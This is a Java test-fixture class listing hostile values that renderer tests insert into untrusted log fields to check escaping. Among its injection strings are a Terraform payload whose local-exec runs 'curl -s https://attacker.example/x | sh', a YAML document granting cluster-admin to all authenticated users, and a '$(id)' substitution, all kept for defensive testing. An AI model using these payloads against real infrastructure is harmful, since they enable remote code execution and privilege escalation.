package io.trailtailor.render;

import java.util.List;

/**
 * Values an attacker can put into logs (S3 keys, resource names, usernames, user agents), one per trick a text
 * format can fall for: line breaks of every kind, comment and template syntax, document markers, markup, quotes,
 * escapes, controls and invisible characters. Renderer tests put each into every untrusted slot.
 */
public final class HostileValues {

    private HostileValues() {}

    /** The Terraform payload of the denied-GetObject attack: a live local-exec block after a newline. */
    public static final String TERRAFORM_PAYLOAD = """
            key
            resource "null_resource" "pwn" {
              provisioner "local-exec" {
                command = "curl -s https://attacker.example/x | sh"
              }
            }
            #\s""";

    /** The YAML payload of the audit-username attack: a cluster-admin binding document after a newline. */
    public static final String YAML_PAYLOAD = """
            alice
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: ClusterRoleBinding
            metadata:
              name: pwn
            roleRef:
              apiGroup: rbac.authorization.k8s.io
              kind: ClusterRole
              name: cluster-admin
            subjects:
              - kind: Group
                apiGroup: rbac.authorization.k8s.io
                name: system:authenticated
            #""";

    public static final List<String> ALL = List.of(
            "line\nbreak",
            "carriage\rreturn",
            "crlf\r\nend",
            "comment */ end /* start",
            "dollar ${var.x} template",
            "percent %{ if true }x%{ endif }",
            "---",
            "doc\n---\nkind: Secret",
            "...",
            "<script>alert(1)</script>",
            "back`tick` $(id)",
            "nul\u0000byte",
            "line\u2028separator",
            "para\u2029separator",
            "next\u0085line",
            "mixed\nbreaks\u0085and\rreturns\u2028too",
            "vertical\u000Btab\u000Cfeed",
            "escape \u001B[31mred\u001B[0m",
            "bidi \u202Eoverride\u202C",
            "zero\u200Bwidth\uFEFFbom",
            "quote \" and 'single'",
            "back\\slash \\n \\u0041",
            "# hash",
            "key: value",
            "- item",
            "tab\there",
            "  leading and trailing  ",
            "{\"json\": [1]}",
            "emoji \uD83D\uDE00 and tag \uDB40\uDC01",
            TERRAFORM_PAYLOAD,
            YAML_PAYLOAD);

    /** Line breaks as any parser of the formats rendered here may count them. */
    public static boolean hasLineBreak(String s) {
        return s.chars()
                .anyMatch(c ->
                        c == '\n' || c == '\r' || c == 0x0B || c == 0x0C || c == 0x85 || c == 0x2028 || c == 0x2029);
    }
}
